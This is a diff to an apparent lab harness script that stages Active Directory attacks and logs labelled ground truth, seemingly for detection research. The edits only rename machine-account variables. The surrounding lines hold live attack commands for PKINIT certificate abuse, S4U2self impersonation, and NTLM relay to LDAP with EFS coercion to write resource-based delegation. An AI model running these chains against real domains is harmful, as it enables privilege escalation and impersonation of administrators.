@@ -174,7 +174,7 @@ pkinit() { # host pfx account
 }
 
 scenario_follow_up_pkinit() {
-  certificate_for "${SRV_NAME^^}\$" srv1
+  certificate_for "$MACHINE" srv1
   record follow_up_pkinit
   pkinit evil srv1.pfx "$SRV_NAME\$"
   truth "${FOLLOW[@]}" target=$DC expect=follow-up:pkinit "$CERTIPY_TOOLS" \
@@ -211,7 +211,7 @@ s4u() { # account password host [getST arguments]
 scenario_follow_up_s4u_self() {
   mkdir -p "$RUN/loot"
   record follow_up_s4u_self
-  s4u "${SRV_NAME^^}\$" "$SRV_PW" evil -self -altservice "cifs/$SRV_FQDN"
+  s4u "$MACHINE" "$SRV_PW" evil -self -altservice "cifs/$SRV_FQDN"
   truth "${FOLLOW[@]}" target=$DC expect=follow-up:s4u "$IMPACKET_TOOLS" \
     notes="With the victim's key the attacker asks for a ticket to the victim in an administrator's name (S4U2self)."
 }
@@ -221,10 +221,10 @@ scenario_follow_up_rbcd_s4u() {
   rights on
   callback_with impacket
   record follow_up_rbcd_s4u
-  relay_on smb -t "ldap://$DC" --delegate-access --escalate-user "${FILES_NAME^^}\$" --no-dump --no-da --no-acl --remove-mic
+  relay_on smb -t "ldap://$DC" --delegate-access --escalate-user "$FILE_SERVER" --no-dump --no-da --no-acl --remove-mic
   efs_call
   sleep 6
-  s4u "${FILES_NAME^^}\$" "$FILES_PW" evil -spn "cifs/$SRV_FQDN"
+  s4u "$FILE_SERVER" "$FILES_PW" evil -spn "cifs/$SRV_FQDN"
   truth "${CHAIN[@]}" target=$DC "${COERCED_SMB[@]}" "${WEAK_LDAP[@]}" \
     expect=ldap-write:msDS-AllowedToActOnBehalfOfOtherIdentity expect=follow-up:s4u expect=chain "$IMPACKET_TOOLS" \
     notes="The delegation is written and then used: S4U2self and S4U2proxy with the key of the account that was allowed."
@@ -234,7 +234,7 @@ scenario_follow_up_rbcd_s4u() {
 scenario_follow_up_s4u_drop() {
   mkdir -p "$RUN/loot"
   record follow_up_s4u_drop
-  s4u "${FILES_NAME^^}\$" "$FILES_PW" drop -self
+  s4u "$FILE_SERVER" "$FILES_PW" drop -self
   truth malicious=yes attacker=$DROP victim=$FILES target=$DC family=kerberos expect=follow-up:s4u "$IMPACKET_TOOLS" \
     notes="The same for the file server's account, from the attacker's second host, without another service name."
 }
